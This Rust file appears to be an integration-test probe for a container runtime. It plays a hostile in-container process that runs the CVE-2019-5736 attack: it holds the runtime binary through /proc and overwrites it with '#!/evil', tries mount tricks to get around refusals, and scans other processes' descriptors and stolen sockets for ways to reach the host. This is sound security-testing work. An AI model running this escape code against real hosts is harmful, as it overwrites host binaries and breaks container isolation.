//! What a hostile process in a container tries against a runtime that enters it.

use std::fs::{self, File};
use std::io::{ErrorKind, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use integration::wait;
use nix::mount::MsFlags;
use nix::sys::signal::{SigSet, Signal};
use rustix::mount::{MoveMountFlags, OpenTreeFlags};

/// How long it waits for the runtime outside.
const LIMIT: Duration = Duration::from_secs(30);

/// Processes other than this one and its like: id and what /proc says is their executable.
fn strangers() -> Vec<(i32, PathBuf)> {
    let own = std::process::id() as i32;
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    entries
        .flatten()
        .filter_map(|entry| {
            let pid: i32 = entry.file_name().to_str()?.parse().ok()?;
            let exe = fs::read_link(entry.path().join("exe")).ok()?;
            (pid != own && exe != Path::new("/probe")).then_some((pid, exe))
        })
        .collect()
}

/// CVE-2019-5736. Waits for a process that executes the runtime's binary, takes a descriptor of that binary, lets the process
/// go on (a runtime that was made a process of the container waits at a fifo for who reads or writes it), and once it has
/// ended writes through the descriptor. Says what came of it: only a refusal for good is told as one.
pub(crate) fn ambush(how: &str, fifo: &str) {
    println!("waiting");
    let held = wait::until(Duration::ZERO, LIMIT, || strangers().into_iter().find_map(hold_binary));
    let Some((pid, exe, fd)) = held else {
        println!("never seen");
        return;
    };
    println!("seen");
    let flags = rustix::fs::OFlags::NONBLOCK.bits() as i32;
    let log = match how {
        "read" => Some(fs::OpenOptions::new().read(true).custom_flags(flags).open(fifo).expect("open the fifo")),
        "write" => {
            drop(fs::OpenOptions::new().write(true).open(fifo).expect("open the fifo"));
            None
        }
        // Nobody waits there.
        _ => None,
    };
    wait::exited(pid, LIMIT);
    drop(log);
    match write_through(&fd) {
        Ok(()) => println!("overwritten: {}", exe.display()),
        Err(e) if e.kind() == ErrorKind::ExecutableFileBusy => println!("never idle: {}", exe.display()),
        Err(e) => println!("refused: {}: {e}", exe.display()),
    }
}

fn hold_binary((pid, exe): (i32, PathBuf)) -> Option<(i32, PathBuf, File)> {
    let flags = rustix::fs::OFlags::PATH.bits() as i32;
    let path = format!("/proc/{pid}/exe");
    let fd = fs::OpenOptions::new().read(true).custom_flags(flags).open(path).ok()?;
    // In between it may have become its own program, which is the container's to change.
    let held = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd())).ok()?;
    (held != Path::new("/probe")).then_some((pid, exe, fd))
}

fn write_through(fd: &File) -> std::io::Result<()> {
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    // The runtime outside may execute it for a moment longer than the one in here.
    let open = |path: &str| {
        let end = Instant::now() + LIMIT;
        loop {
            match fs::OpenOptions::new().write(true).open(path) {
                Err(e) if e.kind() == ErrorKind::ExecutableFileBusy && Instant::now() < end => {
                    wait::until(Duration::from_millis(1), Duration::from_millis(1), || None::<()>);
                }
                opened => return opened,
            }
        }
    };
    let write = |path: &str| open(path)?.write_all(b"#!/evil\n");
    let Err(refused) = write(&path) else { return Ok(()) };
    // Who may change mounts tries that first: on the spot, and on a copy.
    let none: Option<&str> = None;
    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
    if nix::mount::mount(none, path.as_str(), none, flags, none).is_ok() && write(&path).is_ok() {
        return Ok(());
    }
    let spot = "/tmp/spot";
    fs::write(spot, "")?;
    let copied = nix::mount::mount(Some(path.as_str()), spot, none, MsFlags::MS_BIND, none).is_ok()
        || rustix::mount::open_tree(fd, "", OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::AT_EMPTY_PATH)
            .and_then(|tree| {
                rustix::mount::move_mount(tree, "", rustix::fs::CWD, spot, MoveMountFlags::MOVE_MOUNT_F_EMPTY_PATH)
            })
            .is_ok();
    if copied && nix::mount::mount(none, spot, none, flags, none).is_ok() && write(spot).is_ok() {
        return Ok(());
    }
    Err(refused)
}

/// Looks at every process that comes by until SIGTERM: a way from it to the host's root directory is told at once.
pub(crate) fn lurk() {
    let mut term = SigSet::empty();
    term.add(Signal::SIGTERM);
    term.thread_block().expect("block SIGTERM");
    std::thread::spawn(|| {
        let end = Instant::now() + Duration::from_mins(1);
        while Instant::now() < end {
            for entry in fs::read_dir("/proc").expect("/proc").flatten() {
                let name = entry.file_name();
                if name.to_str().is_some_and(|n| n.parse::<i32>().is_ok_and(|n| n != 1)) {
                    peek(&entry.path());
                }
            }
        }
    });
    println!("ready");
    let _ = term.wait();
}

/// The container's root has no directory of this name, the host's has.
fn is_host(dir: &Path) -> bool {
    dir.join("usr").symlink_metadata().is_ok()
}

fn peek(process: &Path) {
    for link in ["root", "cwd"] {
        if is_host(&process.join(link)) {
            println!("host through {}/{link}", process.display());
        }
    }
    let Ok(fds) = fs::read_dir(process.join("fd")) else { return };
    for fd in fds.flatten().map(|e| e.path()) {
        if is_host(&fd) || is_host(&fd.join("../../../..")) {
            println!("host through {}", fd.display());
        }
        if let Some(name) = network_by(process, &fd) {
            println!("host's {name} through {}", fd.display());
        }
    }
}

/// A network device that is not in our network, by a socket that we take from the process: all but the loopback are.
fn network_by(process: &Path, fd: &Path) -> Option<String> {
    use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
    if !fs::read_link(fd).ok()?.to_str()?.starts_with("socket:[") {
        return None;
    }
    let number = |path: &Path| path.file_name()?.to_str()?.parse::<i32>().ok();
    let pidfd = pidfd_open(Pid::from_raw(number(process)?)?, PidfdFlags::empty()).ok()?;
    let socket = pidfd_getfd(pidfd, number(fd)?, PidfdGetfdFlags::empty()).ok()?;
    (2..32).find_map(|index| rustix::net::netdevice::index_to_name(&socket, index).ok())
}
